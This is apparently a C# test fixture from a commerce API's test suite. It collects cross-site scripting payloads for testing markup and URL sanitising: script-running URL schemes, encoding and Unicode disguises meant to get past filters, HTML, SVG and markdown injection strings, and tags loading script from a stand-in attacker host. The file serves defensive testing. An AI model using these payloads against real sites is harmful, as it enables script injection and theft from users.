namespace Commerce.Api.Tests.Markup;

/// <summary>What an attacker would type: addresses that run script, and text that tries to become markup.</summary>
internal static class XssPayloads
{
    private const string Script = "alert(1)";

    private static readonly string[] Schemes =
    [
        "javascript:", "vbscript:", "livescript:", "mocha:", "data:text/html,<script>alert(1)</script>//",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#", "data:image/svg+xml,<svg onload=alert(1)>//",
        "blob:", "file:///", "view-source:javascript:", "jar:", "filesystem:", "feed:javascript:", "intent://",
        "ms-word:",
        "about:blank#", "x:",
    ];

    /// <summary>Ways to write a scheme so that a careless check does not see it.</summary>
    private static readonly Func<string, string>[] Disguises =
    [
        scheme => scheme,
        scheme => scheme.ToUpperInvariant(),
        scheme => string.Concat(
            scheme.Select((letter, index) => index % 2 is 0 ? char.ToUpperInvariant(letter) : letter)),
        scheme => $"&#{(int)scheme[0]};{scheme[1..]}",
        scheme => $"&#x{(int)scheme[0]:x};{scheme[1..]}",
        scheme => $"&#0000{(int)scheme[0]}{scheme[1..]}",
        scheme => scheme.Replace(":", "&colon;", StringComparison.Ordinal),
        scheme => scheme.Replace(":", "&#58;", StringComparison.Ordinal),
        scheme => scheme.Replace(":", "%3A", StringComparison.Ordinal),
        scheme => scheme.Replace(":", "\\:", StringComparison.Ordinal),
        scheme => scheme.Replace(":", "\uFF1A", StringComparison.Ordinal),
        scheme => $"{scheme[0]}\t{scheme[1..]}",
        scheme => $"{scheme[0]}&Tab;{scheme[1..]}",
        scheme => $"{scheme[0]}&NewLine;{scheme[1..]}",
        scheme => $"{scheme[0]}&#0;{scheme[1..]}",
        scheme => $"{scheme[0]}\u00AD{scheme[1..]}",
        scheme => $"{scheme[0]}\u200B{scheme[1..]}",
        scheme => $"&#1;{scheme}",
        scheme => $"\u0001{scheme}",
        scheme => $"&#x20;{scheme}",
        scheme => $"\u00A0{scheme}",
        scheme => $"\u202E{scheme}",
        scheme => $"http:{scheme}",
        scheme => $"//{scheme}",
    ];

    private static readonly string[] Addresses =
    [
        "//evil.example", "///evil.example", "\\\\evil.example", "/\\evil.example", "http:evil.example",
        "http:/evil.example",
        "https:\\\\evil.example", "https://good.example\\@evil.example", "https://a.example/\"onmouseover=alert(1)//",
        "https://a.example/'onmouseover='alert(1)", "https://a.example/`onerror=alert(1)`",
        "https://a.example/><script>",
        "https://a.example/&quot;onclick=alert(1)", "<https://a.example/\" onclick=alert(1) x=\">", "?a=b", "#top",
        "..", "/",
        "/v1/commerce/requests/REQ-1671-0642/process", "/v1/commerce/requests/REQ-1-1/attachments/../../x",
        "https://a.example \"x\\\" onerror=alert(1) y=\\\"\"", "https://a.example '&quot; onerror=alert(1) y=&quot;'",
        "https://a.example (<script>alert(1)</script>)", "https://\u202Emoc.example", "https://\u0000.example", "&#x6A",
        "mailto:a@b.c?subject=\"><script>alert(1)</script>", "mailto:javascript:alert(1)", "mailto:", "http://",
        "https://?",
    ];

    private static readonly string[] Markup =
    [
        "<script>alert(1)</script>", "<ScRiPt src=//evil.example>", "<script\n>alert(1)</script\n>",
        "<<script>alert(1)//<</script>",
        "<img src=x onerror=alert(1)>", "<img src=`x`onerror=alert(1)>", "<img/src/onerror=alert(1)>",
        "<image src=x onerror=alert(1)>",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1)>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><use href=data:image/svg+xml,x>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<math href=javascript:alert(1)>x</math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math><annotation-xml encoding=text/html><script>alert(1)",
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>",
        "<frameset onload=alert(1)>",
        "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<applet code=x>",
        "<portal src=//evil.example>",
        "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example>",
        "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
        "<style>@import '//evil.example';</style>", "<p style=background:url(javascript:alert(1))>x</p>",
        "<div style=position:fixed>x</div>",
        "<form action=javascript:alert(1)><button>x</button></form>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<input autofocus onfocus=alert(1)>", "<input type=image src=x onerror=alert(1)>",
        "<input type=checkbox onclick=alert(1)>",
        "<select autofocus onfocus=alert(1)><option>x</select>",
        "<select><template><script>alert(1)</script></template></select>",
        "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
        "<video src=x onerror=alert(1)>",
        "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<marquee onstart=alert(1)>x</marquee>", "<body onload=alert(1)>", "<html onmouseover=alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=https://a.example onclick=alert(1)>x</a>", "<a href=https://a.example target=_top rel=opener>x</a>",
        "<a id=location name=cookie>x</a>",
        "<table background=javascript:alert(1)><tr><td>x</table>", "<p onclick=alert(1) class=admin id=x>x</p>",
        "<x onclick=alert(1) tabindex=1>x</x>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<title><img src=x onerror=alert(1)></title>", "<xmp><script>alert(1)</script></xmp>",
        "<plaintext><script>alert(1)</script>", "<template><script>alert(1)</script></template>",
        "<slot onslotchange=alert(1)>x</slot>",
        "<!--><script>alert(1)</script>-->", "<!-- --!><script>alert(1)</script> -->",
        "<![CDATA[<script>alert(1)</script>]]>", "<?xml <script>alert(1)</script> ?>",
        "<!DOCTYPE html><script>alert(1)</script>", "</p><script>alert(1)</script>",
        "</code></pre><script>alert(1)</script>", "</td></table><script>alert(1)</script>",
        "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onerror=alert(1) x=\"",
        "' onerror=alert(1) x='", "` onerror=alert(1) x=`",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&amp;lt;script&amp;gt;",
        "\u003Cscript\u003Ealert(1)", "+ADw-script+AD4-",
        "\uFF1Cscript\uFF1Ealert(1)", "\u2028<script>alert(1)</script>\u2029", "<scr\0ipt>alert(1)</scr\0ipt>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "{onclick=alert(1)}", "{.admin #location onclick=alert(1) style=position:fixed}", "{: onclick=alert(1)}",
        "*x*{onclick=alert(1)}",
        "*[x]: <script>alert(1)</script>\n\nx", "*[x]: \" onmouseover=alert(1) y=\"\n\nx",
        "[^x]\n\n[^x]: <script>alert(1)</script>", "$\\href{javascript:alert(1)}{x}$",
        "$$\n</script><script>alert(1)\n$$", "^^<script>alert(1)</script>^^", "::: admin {onclick=alert(1)}\nx\n:::",
        "---\ntitle: <script>alert(1)</script>\n---",
        "![x](https://www.youtube.com/watch?v=x)", "![x](https://a.example/x.mp4)", "++<script>++", "==<script>==",
        "\"\"<script>\"\"", ":smile: :)", "x\n: <script>alert(1)</script>",
        "~~~ \"><script>alert(1)</script>\nx\n~~~", "``` x\"onmouseover=alert(1)\nx\n```",
        "```mermaid\n<img src=x onerror=alert(1)>\n```", "```x onclick=alert(1)\nx\n```",
        "``` </code><script>alert(1)</script>\nx\n```", "|a|\n|:-:|\n|<script>alert(1)</script>|",
        "- [x](javascript:alert(1)) y", "- [ ] <input onfocus=alert(1) autofocus>",
        "[x]\n\n[x]: javascript:alert(1)", "[x][]\n\n[x]:\n  <javascript:alert(1)>\n  '\"onclick=alert(1)'",
        "![x][y]\n\n[y]: data:text/html,<script>alert(1)</script>",
        "[x\\](javascript:alert(1))](javascript:alert(2))", "[[x](javascript:alert(1))](https://a.example)",
        "[![x](javascript:alert(1))](javascript:alert(2))",
        "![![x](https://a.example/\"onerror=alert(1))](https://b.example)",
        "![[x](https://a.example)\"onerror=alert(1)](https://b.example)", "[x](https://a.example){onclick=alert(1)}",
        "![\"onerror=alert(1) x=\"](https://a.example)", "![&quot; onerror=alert(1) x=&quot;](https://a.example)",
        "![<script>alert(1)</script>](https://a.example)",
        "![`\" onerror=alert(1)`](https://a.example)", "[x](https://a.example '\" onclick=alert(1) y=\"')",
        "[x](https://a.example \"'><script>alert(1)</script>\")",
        "<javascript:alert(1)>", "<JaVaScRiPt:alert(1)>", "<data:text/html,x>", "<vbscript:x>",
        "<https://a.example/\"onclick=alert(1)>", "<a@b.c\"onclick=alert(1)>", "<x+y.z-1:javascript>",
        "https://a.example/<script>alert(1)</script>", "https://a.example/\"onclick=alert(1)",
        "www.a.example/\"onclick=alert(1)", "ftp://a.example", "tel:1", "mailto:a@b.c\"onclick=alert(1)",
        "[a <https://b.example> https://c.example [d](https://e.example)](https://f.example)",
        "[x](https://a.example\t\"y\")", "[x](<javascript:alert(1)>)", "[x](javas\ncript:alert(1))",
    ];

    public static IReadOnlyList<string> Urls { get; } =
        [.. Schemes.SelectMany(scheme => Disguises.Select(disguise => disguise(scheme) + Script)), .. Addresses];

    public static IReadOnlyList<string> Html => Markup;

    public static IReadOnlyList<string> All { get; } = [.. Urls, .. Markup];
}
